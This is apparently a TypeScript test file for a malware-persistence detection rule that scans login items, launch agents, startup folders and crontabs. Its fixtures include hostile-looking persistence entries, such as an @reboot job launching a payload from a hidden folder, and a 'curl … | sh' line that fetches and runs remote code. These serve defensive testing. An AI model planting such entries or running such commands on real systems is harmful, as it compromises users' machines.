import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { ALL_OS, huntWith, makeHome, ofRule } from '../../../../test/helpers/workstation.ts';
import rule, { cronCommands } from './rule.ts';

const ID = 'hunt/persistence';

const PLIST = (prog: string): string => `<?xml version="1.0" encoding="UTF-8"?>
<plist version="1.0"><dict><key>Label</key><string>com.example.agent</string>
<key>ProgramArguments</key><array><string>/usr/local/bin/node</string><string>${prog}</string></array>
<key>RunAtLoad</key><true/></dict></plist>`;

const CLEAN = {
  linux: {
    '.config/autostart/syncthing.desktop': '[Desktop Entry]\nExec=/usr/bin/syncthing serve --no-browser\n',
    '.config/systemd/user/backup.service': '[Service]\nExecStart=/usr/bin/restic backup /home/dev/docs\n',
  },
  darwin: { 'Library/LaunchAgents/com.example.agent.plist': PLIST('/Applications/Tool.app/Contents/Resources/app/main.js') },
  win32: { 'AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/Notes.lnk': 'binary shortcut' },
};

const BAD = {
  linux: { '.config/autostart/update.desktop': '[Desktop Entry]\nExec=node /home/dev/.vscode/n.js\n' },
  darwin: { 'Library/LaunchAgents/com.example.agent.plist': PLIST('/Users/dev/.vscode/test.js') },
  win32: {
    'AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/update.cmd':
      '@echo off\r\nstart /b node C:\\Users\\dev\\.cache\\svc\\main.js\r\n',
  },
};

describe(ID, () => {
  for (const os of ALL_OS) {
    it(`${os}: ordinary login items are not reported`, async () => {
      const report = await huntWith(rule, makeHome(CLEAN[os]), os);
      assert.deepEqual(ofRule(report, ID), []);
    });
    it(`${os}: a login item starting a stage from a hidden home folder is reported`, async () => {
      const report = await huntWith(rule, makeHome(BAD[os]), os);
      const hits = ofRule(report, ID);
      assert.equal(hits.length, 1, JSON.stringify(report, null, 2));
      assert.ok(['critical', 'high'].includes(hits[0]?.severity ?? ''));
    });
  }

  it('reads crontab lines and reports a stage started from ~/.n2', async () => {
    const crontab =
      '# m h dom mon dow command\nSHELL=/bin/sh\n0 3 * * * /usr/bin/backup.sh\n@reboot python3 /home/dev/.n2/pay >/dev/null 2>&1\n';
    const report = await huntWith(rule, makeHome(), 'linux', { readers: { crontab: () => ({ text: crontab }) } });
    const hits = ofRule(report, ID);
    assert.equal(hits.length, 1);
    assert.equal(hits[0]?.severity, 'critical');
    assert.match(hits[0].message, /line 4/);
  });

  it('a crontab that cannot be read makes the check partial, not a crash', async () => {
    const report = await huntWith(rule, makeHome(), 'darwin', { readers: { crontab: () => ({ error: 'crontab: not installed' }) } });
    assert.equal(report.workstation?.checks[0]?.status, 'partial');
    assert.ok(report.errors.some(e => e.message.includes('not installed')));
  });

  it('parses schedule fields and @specials', () => {
    assert.deepEqual(cronCommands('*/5 * * * * curl -s https://example.com/x | sh\n@hourly run-it\n#0 * * * * off\n'), [
      { line: 1, command: 'curl -s https://example.com/x | sh' },
      { line: 2, command: 'run-it' },
    ]);
  });
});
